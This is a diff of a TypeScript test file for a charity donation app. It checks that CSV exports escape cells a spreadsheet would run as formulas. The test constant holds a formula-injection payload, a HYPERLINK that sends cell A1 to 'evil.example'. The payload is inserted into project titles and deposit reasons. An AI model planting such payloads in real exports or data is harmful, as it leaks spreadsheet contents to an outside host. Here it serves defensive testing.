@@ -1,25 +1,30 @@
 import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { businesses, users } from '../db/schema.js';
 import { isoDay } from '../lib/periods.js';
-import { makeCharityWithProject, makeDonor, platformAdmin } from '../testing/factories.js';
-import { createTestApp, type TestApp } from '../testing/helpers.js';
+import {
+  fundOrganisation,
+  giveToProject,
+  makeDonor,
+  makeGivingSetUp,
+  type Person,
+} from '../testing/factories.js';
+import { useTestApp } from '../testing/helpers.js';
 import { addBusinessMember, createOrganisation } from '../testing/organisations.js';
 
 /**
  * Every CSV the app writes, with names and titles a spreadsheet would run as formulas: each such
  * cell must arrive as text (a single quote before it), the amounts as numbers (decision 035).
  */
-type User = Awaited<ReturnType<TestApp['createUser']>>;
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 const clock = new Date('2026-03-10T10:00:00Z');
 const day = (offset: number) => isoDay(new Date(clock.getTime() + offset * 86_400_000));
 
-let t: TestApp;
-let platform: User;
-let charityAdmin: User;
+const t = useTestApp({}, { now: () => clock });
+let platform: Person;
+let charityAdmin: Person;
 let charityId: number;
 let projectId: number;
 
@@ -37,19 +42,16 @@ function expectNoFormula(rows: string[][]) {
 }
 
 beforeAll(async () => {
-  t = await createTestApp({}, { now: () => clock });
-  platform = await platformAdmin(t);
   ({
+    platform,
     charityId,
     projectId,
     admin: charityAdmin,
-  } = await makeCharityWithProject(
-    t,
-    { name: 'Formula Trust', platform },
-    { title: FORMULA, fields: { description: 'A project with a dangerous title.', end_date: day(30) } },
-  ));
+  } = await makeGivingSetUp(t, 'Formula Trust', {
+    title: FORMULA,
+    fields: { description: 'A project with a dangerous title.', end_date: day(30) },
+  }));
 });
-afterAll(async () => t.close());
 
 describe('CSV exports neutralise cells a spreadsheet would run', () => {
   it("the Gift Aid claim writes the donor's name as text and the amount as a number", async () => {
@@ -100,11 +102,7 @@ describe('CSV exports neutralise cells a spreadsheet would run', () => {
 
   it("the giving statement writes the project's title as text", async () => {
     const donor = await makeDonor(t, 20_000);
-    const gift = await t.request('POST', `/api/user/donate/project/${projectId}`, {
-      token: donor.token,
-      body: { type: 2, amount: 7_000 },
-    });
-    expect(gift.statusCode).toBe(201);
+    await giveToProject(t, donor, projectId, 7_000);
     const csv = await t.request('GET', `/api/user/giving_statement/${day(-1)}/${day(1)}?format=csv`, {
       token: donor.token,
     });
@@ -126,10 +124,7 @@ describe('CSV exports neutralise cells a spreadsheet would run', () => {
       .where(eq(users.id, org.owner.id));
     // Someone other than the person asking can sign it off (decision 033).
     await addBusinessMember(t, org.id, 2, new Date(), { signoff: true });
-    await t.request('POST', `/api/admin/business/${org.id}/deposit`, {
-      token: platform.token,
-      body: { amount: 50_000, reason: 'Budget' },
-    });
+    await fundOrganisation(t, platform, org.id, 50_000, 'Budget');
     const gift = await t.request('POST', `/api/business/${org.id}/donate/project/${projectId}`, {
       token: org.owner.token,
       body: { type: 2, amount: 4_000 },
@@ -154,10 +149,7 @@ describe('CSV exports neutralise cells a spreadsheet would run', () => {
       body: { parent_id: org.id, name: 'Transfer Branch' },
     });
     expect(branch.statusCode).toBe(201);
-    await t.request('POST', `/api/admin/business/${org.id}/deposit`, {
-      token: platform.token,
-      body: { amount: 50_000, reason: FORMULA },
-    });
+    await fundOrganisation(t, platform, org.id, 50_000, FORMULA);
     const moved = await t.request('POST', '/api/organisation/transfer_funds', {
       token: org.owner.token,
       body: {
